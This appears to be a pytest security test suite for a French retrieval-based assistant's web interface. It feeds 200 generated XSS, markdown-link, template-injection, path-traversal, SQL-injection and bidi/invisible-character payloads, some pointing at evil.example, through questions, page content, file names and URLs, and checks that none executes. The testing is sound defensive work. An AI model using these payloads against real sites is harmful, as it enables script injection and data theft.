"""Whatever is typed or stands on a page is shown as text: 200 payloads, four ways in."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from index.settings import Settings
from rag import Assistant, QuestionError
from rag.answer import Answer, Citation, Line, Quoted, Said, Turn
from rag.question.asked import Question
from rag.question.cleaning import clean
from tests.conftest import Live, Opener, Reader, live
from ui import answer_view, page_view, render
from ui.export import conversation_markdown
from ui.html import CONTROLS
from ui.incoming import clean_text
from ui.record import from_record, to_record

CODE = "window.pwned=1"
TAGS = {
    "code", "em", "pre", "blockquote", "table", "thead", "tbody", "tr", "td", "th", "sup", "s",
    "a", "article", "bdi", "button", "details", "div", "form", "h2", "h3", "h4", "h5", "h6", "input",
    "label", "li", "mark", "ol", "p", "path", "section", "span", "strong", "summary", "svg", "ul",
}  # fmt: skip
"""What our own HTML is made of."""


def families() -> dict[str, list[str]]:
    """Payloads by family."""
    elements = (
        "img",
        "svg",
        "video",
        "audio",
        "body",
        "iframe",
        "input",
        "details",
        "object",
        "marquee",
        "math",
        "a",
    )
    handlers = (
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onpointerdown",
    )
    scripts = [
        f"<script>{CODE}</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        f"<scr<script>ipt>{CODE}</scr</script>ipt>",
        f"</script><script>{CODE}</script>",
        f"<script\x0c>{CODE}</script>",
        f"<script/x>{CODE}</script>",
        f"<svg><script>{CODE}</script></svg>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
        f"<template><script>{CODE}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
        f"<!--><img src=x onerror={CODE}>-->",
        f"<![CDATA[<img src=x onerror={CODE}>]]>",
    ]
    events = [
        f'<{element} src=x {handler}="{CODE}" tabindex=0 autofocus open>'
        for element, handler in itertools.product(elements, handlers)
    ]
    breakouts = [
        f"{quote_}{close}<img src=x onerror={CODE}>"
        for quote_, close in itertools.product(
            ('"', "'", "`", "&quot;", "&#34;"), (">", " ", "/>", " autofocus onfocus=x>")
        )
    ]
    schemes = [
        f"{before}{scheme}:{CODE}{after}"
        for scheme in (
            "javascript",
            "JaVaScRiPt",
            "java\tscript",
            "vbscript",
            "data:text/html,<script>x</script>",
            "file",
        )
        for before, after in (("<a href=", ">x</a>"), ("[x](", ")"), ("", ""))
    ]
    markdown = [
        form.format(url=url)
        for form in ("![x]({url})", "[x]({url})", "![x][r]\n\n[r]: {url}", "<{url}>", "[![x]({url})]({url})")
        for url in (
            "https://evil.example/x.png",
            "//evil.example/x",
            f"javascript:{CODE}",
            "data:image/svg+xml,<svg/>",
        )
    ]
    code = [
        "**<b>x</b>**", f"**<img src=x onerror={CODE}>** [1]", "`<b>`", "~~~html\n<b>x</b>\n~~~", "- <b>x</b>\n  - <i>y</i>",
        "# <h1>x</h1>", "| <b> | x |\n|---|---|", "[1] [2] [99] [1](javascript:x)", "$$\\href{javascript:x}{y}$$",
        "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "{%raw%}{{x}}", "#{1+1} <%= 1 %>", "@children",
    ]  # fmt: skip
    bidi = [f"gauche {char}droite{end} fin" for char, end in
        (("\u202e", "\u202c"), ("\u202d", "\u202c"), ("\u2066", "\u2069"), ("\u2067", "\u2069"), ("\u2068", "\u2069"),
         ("\u200f", ""), ("\u200e", ""), ("\u061c", ""), ("\u202e", ""))]  # fmt: skip
    unseen = [
        "mot\u200bcoupé", "\u200dfamille \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\u200c\u200d\ufeff santé",
        "nul\x00 retour\x08 cloche\x07", "ligne\u2028séparée\u2029fin", "\ufff9ancre\ufffa\ufffb", "e\u0301\u0301\u0301\u0301",
        "Z\u0351\u036b\u0343a\u0335l\u0321g\u0353o\u033c " * 4, "\U000e0041\U000e0042 étiquettes", "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    ]  # fmt: skip
    long = [
        "a" * 1500,
        "W" * 700 + "<b>" + "W" * 700,
        "é" * 1200,
        "-" * 1500,
        "👩" * 600,
        "a\u00a0" * 600,
        "/x" * 700,
    ]
    entities = [
        "&lt;script&gt;x",
        "&#60;img src=x&#62;",
        "&#x3c;b&#x3e;",
        "%3Cscript%3E",
        "\\x3cb\\x3e",
        "\\u003cb\\u003e",
        "&amp;lt;",
        "&unknown;",
    ]
    names = [
        "__proto__",
        "constructor",
        "../../etc/passwd",
        "file:///etc/passwd",
        "'; DROP TABLE feedback; --",
        "null",
        "undefined",
        "[object Object]",
    ]
    return {
        "scripts": scripts, "events": events, "breakouts": breakouts, "schemes": schemes, "markdown": markdown,
        "code": code, "bidi": bidi, "unseen": unseen, "long": long, "entities": entities, "names": names,
    }  # fmt: skip


def payloads(count: int = 200) -> list[str]:
    """``count`` different payloads: a few of each family in turn, until there are enough."""
    rows = itertools.zip_longest(*families().values())
    return list(dict.fromkeys(payload for row in rows for payload in row if payload is not None))[:count]


PAYLOADS = payloads()


class Audit(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("src", "srcdoc", "style", "action", "formaction"):
                self.wrong.append(f"<{tag} {name}={value!r}>")
            if name == "href" and not re.match(r"#|https?://", value or ""):
                self.wrong.append(f"<{tag} href={value!r}>")

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")


def test_there_are_two_hundred_of_them() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
    assert all(family for family in families().values())


def plain(text: str) -> str:
    """Text without the controls that are never shown, white space as one space."""
    return " ".join(CONTROLS.sub("", text).split())


def as_shown(asked: str) -> str:
    """A question as it stands above its answer: as it was read, or as typed where it could not be."""
    try:
        return plain(clean(asked))
    except QuestionError:
        return plain(clean_text(asked))


@pytest.mark.parametrize("family", families())
def test_html_of_a_question_and_its_answer(family: str, assistant: Assistant) -> None:
    page = assistant.page
    for payload in families()[family]:
        passage = assistant.passages[3]
        asked = Question(payload, "x" + payload, previous=payload)
        quote = Quoted(Citation.of(1, page, passage, passage.sentences[0]), *passage.sentences[0], before=payload)
        lines = (Line((Said("any", payload, strong=True), quote)), Line((Said("any", payload), quote), 1))
        answer = Answer(asked, lines, "sure", (quote.citation,), suggestions=(payload,))
        no = (Line((Said("any", payload),)),)
        refusal = Answer(asked, no, "none", reason="off_topic", nearby=assistant.passages[:1])
        turns = (Turn(asked, answer), Turn(asked, refusal))
        assert from_record(to_record(turns[1], page), page, assistant.passages) == turns[1]
        for html in (
            *(answer_view.exchange(1, turn, page) for turn in turns),
            answer_view.error(1, payload),
            answer_view.error(1, payload, payload),
            answer_view.stale(1, payload, payload),
        ):
            audit = Audit(html)
            assert not audit.wrong, (payload, audit.wrong)
            assert plain(payload) in plain("".join(audit.words))
        for html in (render.load_error(payload), render.progress(payload, 0.5)):
            audit = Audit(html.replace(' style="width:50%"', ""))
            assert not audit.wrong, (payload, audit.wrong)
        markdown = conversation_markdown(turns, page)
        assert "![" not in markdown and not re.search(r"(?<!\\)\]\(", markdown)
        assert not re.search(r"(?<!\\)<(?!https?://)", markdown)


def page_with_payloads(folder: Path) -> Path:
    """A page file whose title, headings, paragraphs and bullets are payloads."""
    lines = [
        '# Page <b>piégée</b> & "citée"',
        "",
        "Le Health Data Hub est décrit sur cette page d'essai.",
        "",
    ]
    for number, payload in enumerate(PAYLOADS):
        one_line = " ".join(payload.split()) or "vide"
        if number % 20 == 0:
            lines += [f"## Section {number} {one_line[:60]}", ""]
        lines += [
            f"- Le programme numéro {number} se nomme {one_line}."
            if number % 3
            else f"La mesure {number} : {one_line}.",
            "",
        ]
    file = folder / "piege <img src=x onerror=alert(1)>.md"
    file.write_text("\n".join(lines), encoding="utf-8")
    return file


@pytest.fixture(scope="module")
def trapped(tmp_path_factory: pytest.TempPathFactory, settings: Settings) -> Assistant:
    """The real assistant on the page of payloads, whose file name is one too."""
    folder = tmp_path_factory.mktemp("piège")
    return Assistant.load(settings.with_(page=str(page_with_payloads(folder)), cache_dir=settings.cache_dir))


def test_html_of_the_page(trapped: Assistant) -> None:
    page = trapped.page
    for html in (
        page_view.page_pane(page, trapped.passages),
        render.facts(page),
        render.about(page, Settings()),
        render.welcome(trapped.starters, page),
    ):
        assert not Audit(html).wrong
    audit = Audit(page_view.page_article(page, trapped.passages))
    assert "onerror=window.pwned=1" in "".join(audit.words)


STATE = """() => ({ pwned: window.pwned,
  strange: [...document.querySelectorAll('#chat .turns *, #page *, #bottom *, #about *, #top *')].filter(e =>
    ['SCRIPT','IMG','IFRAME','OBJECT','VIDEO','AUDIO','STYLE','LINK','META','BASE','B','MARQUEE','MATH','TEMPLATE'].includes(e.tagName)
    || [...e.attributes].some(a => a.name.startsWith('on'))
    || (e.href && !/^https?:/.test(e.href.baseVal ?? e.href))).map(e => e.outerHTML.slice(0, 120)),
  wide: document.documentElement.scrollWidth - innerWidth,
  inner: document.querySelector('.conversation').scrollWidth - document.querySelector('.conversation').clientWidth })"""


def untouched(person: Reader) -> None:
    """Nothing ran, nothing strange stands in the page, nothing sticks out."""
    state = person.js(STATE)
    assert not state["pwned"] and state["strange"] == [] and state["wide"] <= 0 and state["inner"] <= 0, state


def test_page_text_in_the_browser(reader: Opener, trapped: Assistant, settings: Settings) -> None:
    with live(settings, lambda *_: trapped) as server:
        person = reader(server.url)
        untouched(person)
        turn = person.ask("Qu'est-ce que le Health Data Hub ?")
        untouched(person)
        for mark in turn.locator("a.mark").all():
            start, end = (int(str(mark.get_attribute(f"data-{edge}"))) for edge in ("start", "end"))
            mark.click()
            shown = person.marked()
            # a control is shown as one replacement character, so that the offsets still hold
            assert shown == "".join(
                CONTROLS.sub("\ufffd", trapped.page.text[max(b.start, start) : min(b.end, end)])
                for b in trapped.page.blocks
                if b.start < end and b.end > start
            )
        untouched(person)


def test_highlight_counts_characters_not_utf16_units(reader: Opener, trapped: Assistant, settings: Settings) -> None:
    with live(settings, lambda *_: trapped) as server:
        person = reader(server.url)
        passage = next(p for p in trapped.passages if "\U0001f468" in p.text)
        offset = passage.text.index("\U0001f468") + 2
        start, end = passage.start + offset, passage.end
        turn = person.ask("Bonjour")
        turn.evaluate(
            """(turn, [start, end, passage]) => { const a = document.createElement('a'); a.className = 'mark'; a.href = '#x';
            Object.assign(a.dataset, { turn: 1, n: 1, start, end, passage }); a.textContent = 'x'; turn.append(a) }""",
            [start, end, passage.id],
        )
        turn.locator("a.mark").click()
        assert person.marked() == "".join(
            trapped.page.text[max(b.start, start) : min(b.end, end)]
            for b in trapped.page.blocks
            if b.start < end and b.end > start
        )


def groups(size: int) -> list[str]:
    """All payloads, ``size`` to a question."""
    return [" ".join(PAYLOADS[first : first + size]) for first in range(0, len(PAYLOADS), size)]


def test_questions_in_the_browser(reader: Opener, server: Live) -> None:
    """Every payload asked in the chat; each question is then history of the next."""
    person = reader(reduced_motion="reduce")
    for asked in groups(8):
        turn = person.ask(asked)
        assert plain(str(turn.locator(".question bdi").evaluate("e => e.textContent"))) == as_shown(asked)
    untouched(person)


def test_addresses_in_the_browser(reader: Opener, server: Live) -> None:
    """Every payload through ``?q=``."""
    for asked in groups(20):
        person = reader(server.url, open_=False, reduced_motion="reduce")
        person.open("?q=" + quote(asked), ready="#turn-1:is(.is-answer, .is-refusal, .is-error)")
        assert plain(str(person.page.locator(".question bdi").evaluate("e => e.textContent"))) == as_shown(
            clean_text(asked)[:4000]
        )
        untouched(person)
        person.page.close()


def test_history_of_a_program(assistant: Assistant, server: Live) -> None:
    """Every payload as history and as question of ``/ask``: an answer or a French sentence, never a crash."""
    from gradio_client import Client

    client = Client(server.url, verbose=False)
    asked = groups(10)
    for first in range(0, len(asked), 4):
        history = asked[first : first + 4]
        try:
            told: Any = client.predict("Qu'est-ce que le Health Data Hub ?", history, api_name="/ask")
        except Exception as error:
            with pytest.raises(QuestionError):
                assistant.ask("Qu'est-ce que le Health Data Hub ?", history)
            assert "Traceback" not in str(error)
            continue
        assert told["citations"] and "Health Data Hub" in told["answer"]
